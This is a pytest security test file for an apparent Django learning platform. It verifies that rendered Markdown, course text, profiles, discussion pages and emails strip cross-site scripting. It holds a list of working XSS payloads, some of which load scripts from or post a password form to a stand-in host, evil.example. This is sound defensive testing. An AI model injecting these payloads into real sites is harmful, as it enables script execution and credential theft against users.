"""Markdown and learner-written text can never run script in another user's browser."""

from html.parser import HTMLParser
from urllib.parse import urlparse

import pytest

from core.markdown import render_markdown as markdown
from courses.tests.factories import CourseFactory

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert('xss-script')</script>",
    "script-in-markdown": "Hello\n\n<script src=https://evil.example/x.js></script>",
    "img-onerror": '<img src="x" onerror="alert(\'xss-onerror\')">',
    "markdown-img-onerror": '![a](x" onerror="alert(1))',
    "body-onload": "<body onload=alert('xss')>",
    "javascript-link": "[click me](javascript:alert('xss-js'))",
    "javascript-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "javascript-entity": "[click](jav&#x09;ascript:alert(1))",
    "javascript-html-link": '<a href="javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-html-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-svg-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "svg-onload": "<svg onload=alert('xss-svg')><circle r=10 /></svg>",
    "svg-script": "<svg><script>alert('xss-svg-script')</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attr": '<p style="background:url(javascript:alert(1))">x</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "event-on-allowed-tag": '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">ok</a>',
    "autolink-js": "<javascript:alert(1)>",
    "reference-link": "[x][1]\n\n[1]: javascript:alert(1)",
}

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "meta",
    "base", "link", "body", "noscript", "use", "frame", "frameset", "template",
}  # fmt: skip
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def dangerous_parts(html):
    """Every tag, attribute or URL in html that could run script or leave the page."""
    parser = _Collector()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href"}:
                problems.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "data", "background", "poster"}:
                scheme = urlparse((value or "").strip().lower()).scheme
                if scheme not in SAFE_SCHEMES:
                    problems.append(f"{tag}[{name}={value}]")
    return problems


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_markdown_filter_neutralises(payload):
    html = markdown(payload)
    assert dangerous_parts(html) == [], html


def test_the_checker_itself_catches_each_payload_when_unsanitised():
    """Guards the guard: raw payloads are flagged, so a weakened sanitiser fails the tests."""
    import markdown as markdown_lib

    flagged = [
        name
        for name, payload in PAYLOADS.items()
        if dangerous_parts(markdown_lib.markdown(payload)) or dangerous_parts(payload)
    ]
    assert set(PAYLOADS) - set(flagged) <= {
        "markdown-img-onerror",
        "javascript-entity",
        "autolink-js",
    }


def test_markdown_keeps_ordinary_formatting():
    html = markdown("**bold** and [a link](https://example.com/) and `code`")
    assert "<strong>bold</strong>" in html
    assert 'href="https://example.com/"' in html
    assert 'rel="nofollow noopener noreferrer"' in html
    assert "<code>code</code>" in html


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_course_description_on_the_course_page_is_safe(client, payload):
    course = CourseFactory(description=payload)
    response = client.get(course.get_absolute_url())
    assert response.status_code == 200
    start = response.text.index('course-description"')
    fragment = response.text[start : start + 4000].split("</div>", 1)[0]
    assert dangerous_parts(fragment.split(">", 1)[1]) == [], fragment


@pytest.mark.parametrize("field", ["title", "subtitle"], ids=["course-title", "course-subtitle"])
def test_course_text_fields_are_escaped_everywhere(client, field):
    course = CourseFactory(**{field: "<script>alert('x')</script><img src=x onerror=alert(1)>"})
    for url in [course.get_absolute_url(), "/courses/", "/"]:
        response = client.get(url)
        assert "<script>alert('x')</script>" not in response.text, url
        assert "<img src=x onerror" not in response.text, url


def test_instructor_profile_text_is_escaped(client):
    from users.tests.factories import InstructorFactory

    teacher = InstructorFactory(
        name="<script>alert('n')</script>",
        headline="<img src=x onerror=alert(1)>",
        bio="<svg onload=alert(1)>",
    )
    CourseFactory(instructors=[teacher])
    response = client.get(teacher.get_absolute_url())
    assert response.status_code == 200
    assert "<script>alert('n')</script>" not in response.text
    assert "<img src=x onerror" not in response.text
    assert "<svg onload" not in response.text


def test_json_ld_cannot_break_out_of_its_script_tag(client):
    course = CourseFactory(title="</script><script>alert('ld')</script>")
    response = client.get(course.get_absolute_url())
    assert "</script><script>alert('ld')</script>" not in response.text


def test_removing_the_sanitiser_is_noticed(monkeypatch):
    from core import markdown as sanitiser

    monkeypatch.setattr(sanitiser.nh3, "clean", lambda html, **kwargs: html)
    flagged = [name for name, payload in PAYLOADS.items() if dangerous_parts(markdown(payload))]
    assert len(flagged) >= len(PAYLOADS) - 3


@pytest.fixture
def conversation_world(db):
    """A course whose thread, answer and announcement all carry every payload."""
    from courses.tests.factories import course_with_lessons
    from learning import services
    from learning.tests.factories import AnnouncementFactory, AnswerFactory, QuestionFactory
    from users.tests.factories import UserFactory

    course = course_with_lessons()
    lesson = course.lessons.first()
    learner = UserFactory(name="<script>alert('name')</script>")
    services.enroll(user=learner, course=course)
    everything = "\n\n".join(PAYLOADS.values())
    question = QuestionFactory(
        lesson=lesson, author=learner, title="<script>alert('t')</script>", body=everything
    )
    AnswerFactory(question=question, author=learner, body=everything)
    AnnouncementFactory(course=course, title="<img src=x onerror=alert(1)>", body=everything)
    return {"course": course, "lesson": lesson, "learner": learner, "question": question}


def _prose_parts(html):
    """The Markdown-rendered parts of a page (class="prose …" blocks)."""
    parts = []
    for chunk in html.split('class="prose')[1:]:
        parts.append(chunk.split(">", 1)[1].split("</div>", 1)[0])
    return parts


@pytest.mark.parametrize("page", ["thread", "lesson", "list", "dashboard", "announcements"])
def test_conversation_pages_are_safe(client, conversation_world, page):
    from django.urls import reverse

    world = conversation_world
    course = world["course"]
    client.force_login(world["learner"])
    url = {
        "thread": world["question"].get_absolute_url(),
        "lesson": world["lesson"].get_absolute_url(),
        "list": reverse("learning:questions", args=[course.slug]),
        "dashboard": reverse("learning:dashboard"),
        "announcements": reverse("learning:announcements", args=[course.slug]),
    }[page]
    response = client.get(url)
    assert response.status_code == 200
    assert "<script>alert('t')</script>" not in response.text
    assert "<script>alert('name')</script>" not in response.text
    assert "<img src=x onerror=alert(1)>" not in response.text
    for part in _prose_parts(response.text):
        assert dangerous_parts(part) == [], part


def test_conversation_emails_are_safe(conversation_world):
    from django.core import mail
    from django.core.management import call_command

    from learning.conversation import services as conversation
    from users.tests.factories import InstructorFactory

    world = conversation_world
    teacher = InstructorFactory()
    world["course"].courseinstructor_set.create(user=teacher, order=5)
    everything = "\n\n".join(PAYLOADS.values())
    conversation.answer(user=teacher, question=world["question"], body=everything)
    call_command("send_queued_emails", verbosity=0)
    assert len(mail.outbox) == 2  # the answer, and the announcement of the world
    for message in mail.outbox:
        html = message.alternatives[0][0]
        assert "<script>alert('t')</script>" not in html
        assert "<img src=x onerror=alert(1)>" not in html
        # What people wrote (the layout's own inline styles are ours).
        written = html.split('class="user-content">', 1)[1].split("</div>", 1)[0]
        assert dangerous_parts(written) == [], written
